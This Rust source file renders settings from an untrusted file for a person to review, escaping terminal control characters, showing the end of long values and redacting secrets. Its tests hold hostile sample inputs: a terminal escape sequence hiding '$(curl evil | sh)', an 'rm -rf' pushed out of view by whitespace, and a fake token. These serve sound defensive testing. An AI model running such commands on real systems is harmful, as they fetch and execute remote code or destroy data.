//! Renders settings of a file that is not trusted so that a person sees exactly what would run.

use std::fmt::Write as _;

use ralph_run::{Redactor, secrets_among};

use super::filter::LeftOut;
use crate::console::is_forbidden;

/// A value that is longer is cut.
const MAX_CHARACTERS: usize = 2_000;
/// How much of the end of a cut value is shown.
const END_CHARACTERS: usize = 500;
/// A file with more settings is cut.
const MAX_LINES: usize = 200;

/// A value on one line, as safe text. Nothing of it is dropped in silence: what a terminal must not see, such as an escape
/// sequence with a command in it, is shown as `\u{1b}`, and a long value says how much of it is missing.
pub fn show(value: &str) -> String {
    let mut shown = String::with_capacity(value.len());
    for character in value.chars() {
        match character {
            '\n' => shown.push_str("\\n"),
            '\t' => shown.push_str("\\t"),
            '\r' => shown.push_str("\\r"),
            _ if is_forbidden(character) => shown.extend(character.escape_unicode()),
            _ => shown.push(character),
        }
    }
    let length = shown.chars().count();
    if length <= MAX_CHARACTERS {
        return shown;
    }
    let begin: String = shown.chars().take(MAX_CHARACTERS - END_CHARACTERS).collect();
    let end: String = shown.chars().skip(length - END_CHARACTERS).collect();
    format!(
        "{begin} … [{} characters are not shown] … {end}",
        length - MAX_CHARACTERS
    )
}

/// The value of an environment variable, without secrets.
pub(super) fn show_variable(name: &str, value: &str) -> String {
    if !secrets_among([(name, value)]).is_empty() {
        return format!("[a secret of {} characters]", value.chars().count());
    }
    match Redactor::new([], [""; 0]) {
        Ok(redactor) => show(&redactor.redact(value)),
        Err(_) => "[not shown]".to_owned(),
    }
}

/// One line for each setting, indented: key, value, and what it does.
pub fn render_left_out(left_out: &[LeftOut]) -> String {
    let mut text = String::new();
    for LeftOut { key, value, why } in left_out.iter().take(MAX_LINES) {
        let _ = writeln!(text, "  {}: {value}  ({})", show(key), why.explain());
    }
    if left_out.len() > MAX_LINES {
        let _ = writeln!(
            text,
            "  and {} more: look at the file",
            left_out.len() - MAX_LINES
        );
    }
    text
}

#[cfg(test)]
mod tests {
    use super::{MAX_CHARACTERS, render_left_out, show, show_variable};
    use crate::console::is_forbidden;
    use crate::trust::{LeftOut, Risk};

    #[test]
    fn what_a_terminal_would_swallow_is_shown() {
        let hidden = "true \u{1b}]0;$(curl evil | sh)\u{7} \u{202e}\u{200b}\r\nrm";
        assert_eq!(
            show(hidden),
            "true \\u{1b}]0;$(curl evil | sh)\\u{7} \\u{202e}\\u{200b}\\r\\nrm"
        );
        assert_eq!(show(&show(hidden)).chars().find(|it| is_forbidden(*it)), None);
    }

    #[test]
    fn a_long_value_shows_its_end_and_says_how_much_is_missing() {
        let value = format!("echo {}; rm -rf x", " ".repeat(10_000));
        let shown = show(&value);
        assert!(shown.ends_with("; rm -rf x"), "{shown}");
        let missing = value.chars().count() - MAX_CHARACTERS;
        assert!(
            shown.contains(&format!("[{missing} characters are not shown]")),
            "{shown}"
        );
    }

    #[test]
    fn variables_are_shown_without_their_secrets() {
        assert_eq!(
            show_variable("ANTHROPIC_BASE_URL", "https://example.invalid"),
            "https://example.invalid"
        );
        assert_eq!(
            show_variable("MY_API_KEY", "0123456789abcdef"),
            "[a secret of 16 characters]"
        );
        let token = format!("ghp_{}", "a1B2c3D4e5".repeat(4));
        assert!(!show_variable("PLAIN", &token).contains("a1B2c3"));
    }

    #[test]
    fn a_very_long_list_is_cut() {
        let item = LeftOut {
            key: "verify".to_owned(),
            value: "true".to_owned(),
            why: Risk::Executes,
        };
        let text = render_left_out(&vec![item; 250]);
        assert_eq!(text.lines().count(), 201);
        assert!(text.ends_with("  and 50 more: look at the file\n"), "{text}");
    }
}
